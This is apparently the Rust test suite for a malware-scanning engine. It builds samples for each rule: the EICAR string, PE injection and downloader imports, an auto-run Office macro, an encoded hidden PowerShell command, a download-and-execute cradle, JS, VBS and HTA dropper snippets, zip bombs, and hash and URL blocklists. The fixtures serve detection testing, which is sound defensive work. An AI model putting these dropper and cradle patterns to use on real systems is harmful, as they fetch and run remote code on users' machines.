//! The engine on samples built here: for every shipped rule a positive and a negative
//! sample, plus archives, bombs, the hash list, URL heuristics and reloads.

use pushdetect_analysis::archive::ArchiveLimits;
use pushdetect_analysis::{Engine, EngineConfig, Verdict};
use std::io::Write;

const EICAR: &[u8] = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

fn engine() -> Engine {
    Engine::new(EngineConfig::default()).unwrap()
}

fn rules_of(v: &Verdict) -> Vec<&str> {
    v.findings.iter().map(|f| f.rule.as_str()).collect()
}

fn scan(content: &[u8], name: &str) -> Verdict {
    engine().analyse_file(content, Some(name)).1
}

/// A minimal PE image: DOS header pointing at a PE signature, then `body`.
fn pe(body: &[u8]) -> Vec<u8> {
    let mut v = vec![0u8; 0x40];
    v[0] = b'M';
    v[1] = b'Z';
    v[0x3C..0x40].copy_from_slice(&0x40u32.to_le_bytes());
    v.extend_from_slice(b"PE\0\0");
    v.extend_from_slice(&[0u8; 64]);
    v.extend_from_slice(body);
    v
}

/// An OLE compound file header followed by `body`.
fn ole(body: &[u8]) -> Vec<u8> {
    let mut v = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
    v.extend_from_slice(&[0u8; 504]);
    v.extend_from_slice(body);
    v
}

fn zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (name, data) in entries {
        w.start_file(*name, opts).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

#[test]
fn eicar_scores_100() {
    let v = scan(EICAR, "eicar.com");
    assert_eq!(v.score, 100);
    assert_eq!(rules_of(&v), ["eicar_test_file"]);
    assert_eq!(v.malicious_activity, ["EICAR anti-virus test file"]);
    let mut shifted = b"hello ".to_vec();
    shifted.extend_from_slice(EICAR);
    assert_eq!(scan(&shifted, "x.txt").score, 0);
}

#[test]
fn pe_with_injection_apis() {
    let bad = pe(b"kernel32.dll\0VirtualAllocEx\0WriteProcessMemory\0CreateRemoteThread\0");
    let v = scan(&bad, "tool.exe");
    assert!(rules_of(&v).contains(&"pe_process_injection_apis"), "{v:?}");
    assert_eq!(v.score, 80);
    // The same names in a text file, or a PE with ordinary APIs, do not match.
    assert_eq!(
        scan(
            b"VirtualAllocEx WriteProcessMemory CreateRemoteThread",
            "notes.txt"
        )
        .score,
        0
    );
    assert_eq!(
        scan(&pe(b"kernel32.dll\0GetProcAddress\0WriteFile\0"), "ok.exe").score,
        0
    );
    // A debugger reads and writes process memory without injecting code.
    let debugger = pe(b"kernel32.dll\0ReadProcessMemory\0WriteProcessMemory\0DebugActiveProcess\0");
    assert_eq!(scan(&debugger, "dbg.exe").score, 0);
}

#[test]
fn pe_with_download_apis() {
    let bad = pe(b"urlmon.dll\0URLDownloadToFileA\0shell32.dll\0ShellExecuteA\0");
    assert!(rules_of(&scan(&bad, "dl.exe")).contains(&"pe_downloader_apis"));
    let only_download = pe(b"urlmon.dll\0URLDownloadToFileA\0");
    assert_eq!(scan(&only_download, "dl.exe").score, 0);
}

#[test]
fn office_document_with_auto_executing_macro() {
    let bad =
        ole(b"Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\nShell \"calc\"\r\nEnd Sub");
    let v = scan(&bad, "invoice.doc");
    assert_eq!(rules_of(&v), ["office_auto_executing_macro"]);
    // A macro that does not run by itself, and auto-exec words outside an OLE file.
    assert_eq!(
        scan(
            &ole(b"Attribute VB_Name = \"M\"\r\nSub Format()\r\nEnd Sub"),
            "a.doc"
        )
        .score,
        0
    );
    assert_eq!(
        scan(b"Sub AutoOpen() in a text about macros", "a.txt").score,
        0
    );
    // A macro-enabled OOXML document is a zip holding vbaProject.bin.
    let docm = zip(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("word/vbaProject.bin", &bad),
    ]);
    let v = scan(&docm, "report.docm");
    let f = v
        .findings
        .iter()
        .find(|f| f.rule == "office_auto_executing_macro")
        .unwrap();
    assert_eq!(f.path.as_deref(), Some("report.docm/word/vbaProject.bin"));
}

#[test]
fn powershell_encoded_command() {
    let bad = b"cmd /c powershell.exe -NoP -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA";
    assert_eq!(
        rules_of(&scan(bad, "run.bat")),
        ["powershell_encoded_command"]
    );
    assert_eq!(
        scan(b"powershell.exe -NoProfile -File .\\backup.ps1", "run.bat").score,
        0
    );
}

#[test]
fn powershell_download_cradle() {
    let bad = b"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')";
    assert_eq!(
        rules_of(&scan(bad, "a.ps1")),
        ["powershell_download_cradle"]
    );
    let benign = b"$wc = New-Object Net.WebClient\n$page = $wc.DownloadString($u)\nWrite-Output $page.Length";
    assert_eq!(scan(benign, "fetch.ps1").score, 0);
}

#[test]
fn script_droppers() {
    let js = b"var h = new ActiveXObject(\"MSXML2.XMLHTTP\"); h.open(\"GET\", u, false); h.send();\nvar s = new ActiveXObject(\"WScript.Shell\"); s.Run(\"cmd /c %TEMP%\\\\a.exe\");";
    assert_eq!(rules_of(&scan(js, "invoice.js")), ["js_dropper"]);
    let js_benign = b"var h = new ActiveXObject(\"MSXML2.XMLHTTP\"); h.open(\"GET\", u, false); h.send(); WScript.Echo(h.responseText);";
    assert_eq!(scan(js_benign, "check.js").score, 0);

    let vbs = b"Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", u, False\nh.Send\nSet s = CreateObject(\"ADODB.Stream\")\ns.Open\ns.Write h.responseBody\ns.SaveToFile \"a.exe\", 2";
    assert_eq!(rules_of(&scan(vbs, "x.vbs")), ["vbs_dropper"]);
    let vbs_benign = b"Set fso = CreateObject(\"Scripting.FileSystemObject\")\nfso.CopyFile \"a.txt\", \"b.txt\"";
    assert_eq!(scan(vbs_benign, "copy.vbs").score, 0);

    let hta = b"<html><head><hta:application id=\"a\"/></head><script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"powershell -w hidden\"</script></html>";
    assert_eq!(rules_of(&scan(hta, "doc.hta")), ["hta_script_launcher"]);
    let hta_benign =
        b"<html><head><hta:application id=\"a\"/></head><script>alert('hello')</script></html>";
    assert_eq!(scan(hta_benign, "hello.hta").score, 0);
}

#[test]
fn executables_with_double_extensions() {
    let exe = pe(b"");
    let v = scan(&exe, "invoice.pdf.exe");
    assert_eq!(rules_of(&v), ["executable_with_double_extension"]);
    assert_eq!(v.score, 75);
    assert_eq!(scan(&exe, "setup.exe").score, 0);
    assert_eq!(scan(b"%PDF-1.7", "invoice.pdf").score, 0);
}

#[test]
fn executables_inside_archives() {
    let exe = pe(b"");
    let v = scan(
        &zip(&[("readme.txt", b"hi"), ("setup.exe", &exe)]),
        "bundle.zip",
    );
    assert_eq!(rules_of(&v), ["executable_inside_archive"]);
    assert_eq!(v.findings[0].path.as_deref(), Some("bundle.zip/setup.exe"));
    assert_eq!(scan(&zip(&[("readme.txt", b"hi")]), "docs.zip").score, 0);
    // Found inside a nested archive, with a disguised name too.
    let inner = zip(&[("photo.jpg.exe", &exe)]);
    let v = scan(&zip(&[("inner.zip", &inner)]), "outer.zip");
    assert!(rules_of(&v).contains(&"executable_inside_archive"));
    assert!(rules_of(&v).contains(&"executable_with_double_extension"));
    // EICAR inside an archive scores 100.
    assert_eq!(scan(&zip(&[("eicar.com", EICAR)]), "e.zip").score, 100);
}

#[test]
fn zip_bombs_are_reported_not_expanded() {
    let zeros = vec![0u8; 8 * 1024 * 1024];
    let v = scan(&zip(&[("zeros.bin", &zeros)]), "bomb.zip");
    assert_eq!(rules_of(&v), ["archive_bomb"]);
    assert!(
        v.malicious_activity[0].contains("compression ratio"),
        "{v:?}"
    );

    let small = |max_entries, max_expanded_bytes, max_depth| {
        Engine::new(EngineConfig {
            archive_limits: ArchiveLimits {
                max_entries,
                max_expanded_bytes,
                max_depth,
                max_ratio: 200,
            },
            ..EngineConfig::default()
        })
        .unwrap()
    };
    let many: Vec<(String, Vec<u8>)> = (0..11)
        .map(|i| (format!("f{i}.txt"), vec![b'a'; 10]))
        .collect();
    let many: Vec<(&str, &[u8])> = many
        .iter()
        .map(|(n, d)| (n.as_str(), d.as_slice()))
        .collect();
    let v = small(10, 1 << 20, 3)
        .analyse_file(&zip(&many), Some("many.zip"))
        .1;
    assert!(v.malicious_activity[0].contains("11 entries"), "{v:?}");
    let v = small(100, 100, 3)
        .analyse_file(&zip(&[("a.txt", &[b'x'; 200])]), Some("big.zip"))
        .1;
    assert!(v.malicious_activity[0].contains("limit 100 bytes"), "{v:?}");
    let mut nested = zip(&[("core.txt", b"x")]);
    for i in 0..4 {
        nested = zip(&[(format!("level{i}.zip").as_str(), &nested)]);
    }
    let v = small(100, 1 << 20, 3)
        .analyse_file(&nested, Some("deep.zip"))
        .1;
    assert_eq!(rules_of(&v), ["archive_too_deep"]);
    assert!(v.score < 60, "depth alone is not malicious");
}

#[test]
fn subject_hashes_and_mime_type() {
    let (subject, _) = engine().analyse_file(EICAR, Some("eicar.com"));
    assert_eq!(subject.md5, "44d88612fea8a8f36de82e1278abb02f");
    assert_eq!(subject.sha1, "3395856ce81f2b7382dee72602f798b642f14140");
    assert_eq!(
        subject.sha256,
        "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
    );
    assert_eq!(subject.size, 68);
    assert_eq!(subject.mime_type, "text/plain");
    assert_eq!(subject.filename.as_deref(), Some("eicar.com"));
    let (subject, _) = engine().analyse_file(&pe(b""), None);
    assert_eq!(
        subject.mime_type,
        "application/vnd.microsoft.portable-executable"
    );
}

#[test]
fn known_bad_hashes_from_the_operator_list() {
    let dir = tempfile::tempdir().unwrap();
    let list = dir.path().join("bad.csv");
    let content = b"just some bytes";
    // `printf 'just some bytes' | sha256sum`
    let sha256 = "05f7cbf16abc940d08dbca68ba225837f8f2cc3839727e16141c6710cabdccd2";
    std::fs::write(
        &list,
        format!(
            "sha256,score,description\n{sha256},90,\"Known ransomware, family X\"\n{},40,Adware\n",
            "0".repeat(32)
        ),
    )
    .unwrap();
    let e = Engine::new(EngineConfig {
        hash_list: Some(list.clone()),
        ..EngineConfig::default()
    })
    .unwrap();
    let v = e.analyse_file(content, None).1;
    assert_eq!(v.score, 90);
    assert_eq!(v.malicious_activity, ["Known ransomware, family X"]);
    assert_eq!(e.analyse_file(b"other bytes", None).1.score, 0);
    std::fs::write(&list, "deadbeef,90,short hash\n").unwrap();
    let err = Engine::new(EngineConfig {
        hash_list: Some(list),
        ..EngineConfig::default()
    })
    .unwrap_err();
    assert!(err.to_string().contains("line 1"), "{err}");
}

#[test]
fn url_heuristics_and_blocklist() {
    let dir = tempfile::tempdir().unwrap();
    let block = dir.path().join("block.txt");
    std::fs::write(
        &block,
        "# bad hosts\nevil.example\nhttps://files.example/malware/\n",
    )
    .unwrap();
    let e = Engine::new(EngineConfig {
        url_blocklist: Some(block),
        ..EngineConfig::default()
    })
    .unwrap();
    let check = |url: &str| e.analyse_url(url).unwrap().1;
    assert_eq!(check("https://www.example.com/index.html").score, 0);
    assert_eq!(
        rules_of(&check("http://cdn.evil.example/x")),
        ["url_blocklisted"]
    );
    assert_eq!(check("http://cdn.evil.example/x").score, 100);
    assert_eq!(
        rules_of(&check("https://files.example/malware/a.pdf")),
        ["url_blocklisted"]
    );
    assert_eq!(check("https://files.example/docs/a.pdf").score, 0);
    assert_eq!(
        rules_of(&check("http://203.0.113.5/index.html")),
        ["url_ip_literal_host"]
    );
    assert_eq!(
        rules_of(&check("http://[2001:db8::1]/")),
        ["url_ip_literal_host"]
    );
    assert_eq!(
        rules_of(&check("https://xn--pypal-4ve.com/login")),
        ["url_punycode_host"]
    );
    assert_eq!(
        rules_of(&check("https://www.paypal.com@phish.example/login")),
        ["url_embedded_credentials"]
    );
    assert_eq!(
        rules_of(&check("https://downloads.example/setup.EXE")),
        ["url_direct_executable"]
    );
    assert_eq!(check("https://downloads.example/setup.exe.html").score, 0);
    assert_eq!(
        rules_of(&check("http://shop.example:4444/")),
        ["url_unusual_port"]
    );
    assert_eq!(check("https://shop.example:8443/").score, 0);
    let v = check("http://user@198.51.100.7:8081/payload.exe");
    assert_eq!(v.score, 60);
    assert_eq!(v.findings.len(), 4);
    assert!(e.analyse_url("not a url").is_err());
    assert!(e.analyse_url("javascript:alert(1)").is_err());
}

#[test]
fn reload_adds_operator_rules_and_keeps_the_old_set_when_a_rule_is_broken() {
    let dir = tempfile::tempdir().unwrap();
    let e = Engine::new(EngineConfig {
        rule_dirs: vec![dir.path().to_owned()],
        ..EngineConfig::default()
    })
    .unwrap();
    let shipped = e.snapshot().rules.len();
    assert_eq!(e.analyse_file(b"ACME-CANARY-1234", None).1.score, 0);
    std::fs::write(
        dir.path().join("canary.yar"),
        "rule acme_canary { meta: score = 55 description = \"ACME canary string\" strings: $a = \"ACME-CANARY\" condition: $a }",
    )
    .unwrap();
    assert_eq!(e.reload().unwrap(), shipped + 1);
    assert_eq!(e.analyse_file(b"ACME-CANARY-1234", None).1.score, 55);
    std::fs::write(
        dir.path().join("broken.yar"),
        "rule broken {\n  condition:\n    $missing\n}\n",
    )
    .unwrap();
    let err = e.reload().unwrap_err().to_string();
    assert!(err.contains("broken.yar"), "{err}");
    assert!(err.contains(":3:"), "names the line: {err}");
    assert_eq!(
        e.analyse_file(b"ACME-CANARY-1234", None).1.score,
        55,
        "previous set stays"
    );
    std::fs::write(
        dir.path().join("broken.yar"),
        "rule no_meta { condition: true }",
    )
    .unwrap();
    let err = e.reload().unwrap_err().to_string();
    assert!(err.contains("no_meta") && err.contains("score"), "{err}");
}

/// Bytes deflate cannot shrink (seeded, the same on every run), so their compression
/// ratio is 1.
fn noise(len: usize) -> Vec<u8> {
    let mut rng = fastrand::Rng::with_seed(0x9E37_79B9_7F4A_7C15);
    let mut bytes = vec![0u8; len];
    rng.fill(&mut bytes);
    bytes
}

fn limited(max_entries: usize, max_expanded_bytes: u64, max_depth: u32, max_ratio: u64) -> Engine {
    Engine::new(EngineConfig {
        archive_limits: ArchiveLimits {
            max_entries,
            max_expanded_bytes,
            max_depth,
            max_ratio,
        },
        ..EngineConfig::default()
    })
    .unwrap()
}

fn bombs(v: &Verdict) -> bool {
    rules_of(v).contains(&"archive_bomb")
}

#[test]
fn archive_limits_hold_exactly_at_their_values() {
    // Exactly as many entries as allowed.
    let ten: Vec<(String, Vec<u8>)> = (0..10)
        .map(|i| (format!("f{i}.txt"), vec![b'a'; 10]))
        .collect();
    let ten: Vec<(&str, &[u8])> = ten
        .iter()
        .map(|(n, d)| (n.as_str(), d.as_slice()))
        .collect();
    assert!(!bombs(
        &limited(10, 1 << 20, 3, 200)
            .analyse_file(&zip(&ten), None)
            .1
    ));
    // Exactly as many bytes as allowed: the whole entry is read and scanned, to its last
    // byte (EICAR, which must be whole, still matches).
    let content = EICAR.to_vec();
    let budget = content.len() as u64;
    let v = limited(100, budget, 3, 200)
        .analyse_file(&zip(&[("x.com", &content)]), None)
        .1;
    assert!(!bombs(&v), "{v:?}");
    assert!(rules_of(&v).contains(&"eicar_test_file"), "{v:?}");
    let v = limited(100, budget - 1, 3, 200)
        .analyse_file(&zip(&[("x.com", &content)]), None)
        .1;
    assert!(bombs(&v), "{v:?}");
}

#[test]
fn the_compression_ratio_counts_only_for_entries_over_a_mebibyte() {
    // Small and highly compressed: not a bomb, however high the ratio.
    let v = limited(100, 1 << 30, 3, 200)
        .analyse_file(&zip(&[("zeros.bin", &vec![0u8; 1 << 19])]), None)
        .1;
    assert!(!bombs(&v), "{v:?}");
    // Exactly one mebibyte: still not counted.
    let v = limited(100, 1 << 30, 3, 200)
        .analyse_file(&zip(&[("zeros.bin", &vec![0u8; 1 << 20])]), None)
        .1;
    assert!(!bombs(&v), "{v:?}");
    // Large and incompressible: ratio 1, not a bomb.
    let v = limited(100, 1 << 30, 3, 200)
        .analyse_file(&zip(&[("noise.bin", &noise(2 << 20))]), None)
        .1;
    assert!(!bombs(&v), "{v:?}");
    // Large and compressed: a bomb above the ratio, not at it.
    let zeros = zip(&[("zeros.bin", &vec![0u8; 2 << 20])]);
    let entry = zip::ZipArchive::new(std::io::Cursor::new(&zeros))
        .unwrap()
        .by_index_raw(0)
        .map(|e| e.size() / e.compressed_size())
        .unwrap();
    assert!(entry > 2, "{entry}");
    let v = limited(100, 1 << 30, 3, entry).analyse_file(&zeros, None).1;
    assert!(!bombs(&v), "ratio {entry} at a limit of {entry}: {v:?}");
    let v = limited(100, 1 << 30, 3, entry - 1)
        .analyse_file(&zeros, None)
        .1;
    assert!(
        bombs(&v),
        "ratio {entry} over a limit of {}: {v:?}",
        entry - 1
    );
}

#[test]
fn the_expansion_budget_is_shared_by_nested_archives_and_depth_is_exact() {
    // An inner archive of about 230 bytes holding 120: each alone fits a budget of 250,
    // both together do not.
    let inner = zip(&[("a.bin", &noise(120))]);
    let outer = zip(&[("inner.zip", &inner)]);
    assert!(inner.len() > 130 && inner.len() < 250, "{}", inner.len());
    let v = limited(100, 250, 3, 200).analyse_file(&outer, None).1;
    assert!(bombs(&v), "{v:?}");
    let v = limited(100, 1000, 3, 200).analyse_file(&outer, None).1;
    assert!(!bombs(&v), "{v:?}");
    // Depth: archives are opened down to max_depth levels and no further.
    let nest = |levels: usize| {
        let mut z = zip(&[("core.com", EICAR)]);
        for i in 1..levels {
            z = zip(&[(format!("level{i}.zip").as_str(), &z)]);
        }
        z
    };
    let v = limited(100, 1 << 20, 3, 200).analyse_file(&nest(3), None).1;
    assert_eq!(rules_of(&v), ["eicar_test_file"], "{v:?}");
    let v = limited(100, 1 << 20, 3, 200).analyse_file(&nest(4), None).1;
    assert_eq!(rules_of(&v), ["archive_too_deep"], "{v:?}");
}

#[test]
fn lists_count_their_entries_and_skip_blanks_and_comments() {
    use pushdetect_analysis::hashlist::HashList;
    use pushdetect_analysis::url_heuristics::UrlBlocklist;
    let empty = HashList::parse("# nothing yet\n").unwrap();
    assert_eq!((empty.len(), empty.is_empty()), (0, true));
    let two = HashList::parse(&format!(
        "sha256,score,description\n{},90,a\n{},40,b\n",
        "a".repeat(64),
        "b".repeat(32)
    ))
    .unwrap();
    assert_eq!((two.len(), two.is_empty()), (2, false));
    let blocked = UrlBlocklist::parse("\n  \n# comment\nevil.example.\nhttps://bad.example/x\n");
    assert_eq!((blocked.len(), blocked.is_empty()), (2, false));
    let none = UrlBlocklist::parse("\n# only a comment\n");
    assert_eq!((none.len(), none.is_empty()), (0, true));
}

#[test]
fn rules_need_a_score_from_0_to_100_and_private_ones_are_not_counted() {
    use pushdetect_analysis::RuleSet;
    let rule = |score: &str| {
        vec![(
            "t.yar".to_owned(),
            format!("rule r {{ meta: score = {score} description = \"d\" condition: true }}"),
        )]
    };
    for ok in ["0", "100"] {
        let set = RuleSet::compile(&rule(ok)).unwrap();
        assert_eq!((set.len(), set.is_empty()), (1, false), "{ok}");
    }
    for bad in ["101", "-1"] {
        let err = RuleSet::compile(&rule(bad)).unwrap_err().to_string();
        assert!(err.contains("outside 0-100"), "{bad}: {err}");
    }
    let private = RuleSet::compile(&[(
        "p.yar".to_owned(),
        "private rule helper { condition: true }".to_owned(),
    )])
    .unwrap();
    assert_eq!((private.len(), private.is_empty()), (0, true));
    assert_eq!(format!("{private:?}"), "RuleSet { rules: 0 }");
}

#[test]
fn empty_and_binary_content_is_not_text() {
    use pushdetect_analysis::subject::mime_type;
    assert_eq!(mime_type(b""), "application/octet-stream");
    assert_eq!(mime_type(&[0xC3, 0x28, 0x41]), "application/octet-stream");
    assert_eq!(mime_type(b"a\x01b"), "application/octet-stream");
    assert_eq!(mime_type(b"plain\ttext\r\n"), "text/plain");
}

#[test]
fn each_reload_is_a_new_generation() {
    let e = engine();
    let first = e.snapshot().generation;
    e.reload().unwrap();
    assert_eq!(e.snapshot().generation, first + 1);
    e.reload().unwrap();
    assert_eq!(e.snapshot().generation, first + 2);
}

#[test]
fn an_archive_whose_declared_sizes_lie_is_reported_not_expanded() {
    // 300 zero bytes, declared (in the local header and the central directory) as 10.
    let mut z = zip(&[("liar.bin", &[0u8; 300])]);
    let patch = |z: &mut Vec<u8>, signature: [u8; 4], offset: usize| {
        let at = z.windows(4).position(|w| w == signature).unwrap() + offset;
        assert_eq!(&z[at..at + 4], &300u32.to_le_bytes());
        z[at..at + 4].copy_from_slice(&10u32.to_le_bytes());
    };
    patch(&mut z, [0x50, 0x4b, 0x03, 0x04], 22);
    patch(&mut z, [0x50, 0x4b, 0x01, 0x02], 24);
    // The zip reader stops at the declared size: reported, never expanded.
    let v = limited(100, 100, 3, 200).analyse_file(&z, None).1;
    assert_eq!(rules_of(&v), ["archive_unreadable"], "{v:?}");
    assert!(
        v.malicious_activity[0].contains("larger than its declared uncompressed size"),
        "{v:?}"
    );
}
